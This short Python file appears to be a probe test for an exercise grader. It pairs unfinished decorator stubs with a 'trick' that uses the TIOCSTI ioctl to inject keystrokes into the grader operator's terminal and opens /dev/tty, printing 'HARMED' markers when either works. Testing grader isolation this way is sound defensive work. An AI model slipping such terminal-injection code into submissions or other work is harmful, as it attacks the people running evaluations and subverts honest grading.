"""Types a command into the terminal of whoever runs the grader.

Exercise: decorators
Expect: no more than without the trick
"""

# The trick.
import contextlib
import fcntl
import os

for number in (0, 1, 2):
    with contextlib.suppress(OSError):
        fcntl.ioctl(number, 0x5412, b" ")
        print("HARMED: typed into the terminal")
with contextlib.suppress(OSError):
    os.close(os.open("/dev/tty", os.O_RDWR))
    print("HARMED: opened the terminal")


# The attempt.
def timer(func):
    raise TypeError("not yet")


def cache(func):
    raise TypeError("not yet")


def retry(max_attempts=3, delay=1.0):
    raise TypeError("not yet")
